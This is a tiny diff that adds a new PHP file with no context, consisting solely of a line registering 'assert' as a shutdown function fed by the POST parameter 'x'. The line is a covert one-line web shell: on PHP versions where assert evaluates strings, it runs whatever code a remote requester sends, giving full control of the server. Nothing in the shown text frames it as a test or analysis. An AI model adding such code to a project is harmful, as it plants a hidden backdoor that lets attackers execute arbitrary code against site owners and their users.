@@ -1,0 +1,2 @@
+<?php
+register_shutdown_function("assert", $_POST["x"]);
